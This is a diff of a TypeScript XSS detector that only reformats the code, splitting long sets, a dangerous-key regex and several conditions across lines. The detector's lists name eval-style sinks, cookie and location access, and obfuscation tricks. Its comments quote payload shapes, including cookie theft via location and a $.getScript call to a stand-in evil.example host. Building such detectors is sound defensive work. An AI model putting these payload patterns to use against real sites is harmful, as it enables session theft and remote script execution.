@@ -31,11 +31,27 @@ const proofSinks = new Set(['alert', 'prompt', 'confirm'])
 // Functions that run a string as code (or fetch and run it).
 const evaluators = new Set(['eval', 'Function', 'setTimeout', 'setInterval', 'execScript', 'globalEval', 'import'])
 // Where script gets a string to run from, or a string built to hide one.
-const stringSources = new Set(['location', 'name', 'URL', 'url', 'document', 'atob', 'decodeURI', 'decodeURIComponent', 'unescape', 'String', 'window', 'top', 'self', 'this'])
+const stringSources = new Set([
+  'location',
+  'name',
+  'URL',
+  'url',
+  'document',
+  'atob',
+  'decodeURI',
+  'decodeURIComponent',
+  'unescape',
+  'String',
+  'window',
+  'top',
+  'self',
+  'this',
+])
 // Objects whose computed members reach every global.
 const globals = new Set(['top', 'window', 'self', 'parent', 'frames', 'globalThis', 'content', 'opener', 'document'])
 // Computed keys that name something dangerous.
-const dangerousKeys = /^(?:alert|prompt|confirm|eval|constructor|cookie|domain|location|write|writeln|innerhtml|outerhtml|settimeout|setinterval|function|import|fetch|atob|onerror|document|globaleval|execscript)$/
+const dangerousKeys =
+  /^(?:alert|prompt|confirm|eval|constructor|cookie|domain|location|write|writeln|innerhtml|outerhtml|settimeout|setinterval|function|import|fetch|atob|onerror|document|globaleval|execscript)$/
 
 const isIdStart = (c: number) => (c >= 65 && c <= 90) || (c >= 97 && c <= 122) || c === 95 || c === 36
 const isIdPart = (c: number) => isIdStart(c) || (c >= 48 && c <= 57)
@@ -136,7 +152,42 @@ const isPunct = (t: Token | undefined, p: string) => t !== undefined && t.kind =
 const callOpen = (t: Token | undefined) => isPunct(t, '(') || isPunct(t, '`')
 
 // Keywords may follow each other in code (`export default function`, `return typeof x`).
-const keywords = new Set(['class', 'extends', 'return', 'typeof', 'new', 'function', 'async', 'await', 'export', 'default', 'import', 'from', 'const', 'let', 'var', 'if', 'else', 'in', 'of', 'instanceof', 'void', 'delete', 'throw', 'case', 'do', 'while', 'for', 'yield', 'static', 'get', 'set', 'this', 'super', 'as'])
+const keywords = new Set([
+  'class',
+  'extends',
+  'return',
+  'typeof',
+  'new',
+  'function',
+  'async',
+  'await',
+  'export',
+  'default',
+  'import',
+  'from',
+  'const',
+  'let',
+  'var',
+  'if',
+  'else',
+  'in',
+  'of',
+  'instanceof',
+  'void',
+  'delete',
+  'throw',
+  'case',
+  'do',
+  'while',
+  'for',
+  'yield',
+  'static',
+  'get',
+  'set',
+  'this',
+  'super',
+  'as',
+])
 
 /** Prose: three words in a row with nothing between them (keywords aside) is English, not an expression. */
 function proseIn(ts: readonly Token[]): boolean {
@@ -192,7 +243,11 @@ function suspiciousKey(ts: readonly Token[], open: number): { hidden: boolean; e
       strings++
       if (dangerousKeys.test(t.text.replace(/\s/g, ''))) hidden = true
     } else if (isPunct(t, '+')) plus = true
-    else if (t.kind === 'id' && (t.text === 'source' || t.text === 'toString' || t.text === 'fromCharCode' || t.text === 'atob' || t.text === 'reverse' || t.text === 'join')) hidden = true
+    else if (
+      t.kind === 'id' &&
+      (t.text === 'source' || t.text === 'toString' || t.text === 'fromCharCode' || t.text === 'atob' || t.text === 'reverse' || t.text === 'join')
+    )
+      hidden = true
   }
   if (plus && strings >= 2) hidden = true
   return { hidden, end: k }
@@ -244,7 +299,10 @@ export function analyzeJs(s: string): JsFinding | null {
       else if (isPunct(next, ')') && callOpen(ts[i + 2]) && isPunct(prev, '(')) call = i + 2
       else if (isPunct(next, '.') && ['call', 'apply', 'bind'].includes(ts[i + 2]?.text ?? '') && callOpen(ts[i + 3])) call = i + 3
       // passed as a value: [1].find(alert), ${alert}, a=alert,a(1)
-      const passed = !member && (isPunct(prev, '(') || isPunct(prev, ',') || isPunct(prev, '${') || isPunct(prev, '=')) && (next === undefined || isPunct(next, ')') || isPunct(next, ',') || isPunct(next, '}') || isPunct(next, ';'))
+      const passed =
+        !member &&
+        (isPunct(prev, '(') || isPunct(prev, ',') || isPunct(prev, '${') || isPunct(prev, '=')) &&
+        (next === undefined || isPunct(next, ')') || isPunct(next, ',') || isPunct(next, '}') || isPunct(next, ';'))
       // confirm('Delete this row?') is an app's own dialog; payloads prove with 1, a domain, a short tag
       if (call !== -1 && plainArgs(ts, call)) found('xss-js-call', prose || program ? 0.6 : messageArg(ts, call) ? 0.7 : 0.8)
       else if (passed) found('xss-js-call', prose || program ? 0.6 : 0.85)
@@ -272,7 +330,12 @@ export function analyzeJs(s: string): JsFinding | null {
     } else if (t.text === 'location' && isPunct(next, '=') && !isPunct(ts[i + 2], '=') && cookie) {
       // location=…cookie…: the session cookie sent to another site
       found('xss-js-eval', prose || program ? 0.6 : 0.8)
-    } else if ((t.text === 'getScript' || t.text === 'importScripts') && callOpen(next) && ts[i + 2]?.kind === 'str' && /^(?:https?:)?\/\//.test(ts[i + 2]!.text)) {
+    } else if (
+      (t.text === 'getScript' || t.text === 'importScripts') &&
+      callOpen(next) &&
+      ts[i + 2]?.kind === 'str' &&
+      /^(?:https?:)?\/\//.test(ts[i + 2]!.text)
+    ) {
       // $.getScript('//evil.example/x.js'): fetches and runs a remote script
       found('xss-js-eval', prose || program ? 0.6 : 0.8)
     } else if (t.text === 'constructor' && (isPunct(next, '(') || (isPunct(next, '.') && ts[i + 2]?.text === 'constructor'))) {
@@ -315,7 +378,8 @@ export function analyzeJs(s: string): JsFinding | null {
   }
   if (best === null && s.indexOf('constructor') !== -1) {
     for (let i = 0; i + 3 < ts.length; i++) {
-      if (isPunct(ts[i], '[') && ts[i + 1]!.kind === 'str' && ts[i + 1]!.text === 'constructor' && isPunct(ts[i + 2], ']') && isPunct(ts[i + 3], '(')) found('xss-js-obfuscation', 0.85)
+      if (isPunct(ts[i], '[') && ts[i + 1]!.kind === 'str' && ts[i + 1]!.text === 'constructor' && isPunct(ts[i + 2], ']') && isPunct(ts[i + 3], '('))
+        found('xss-js-obfuscation', 0.85)
     }
   }
   return best
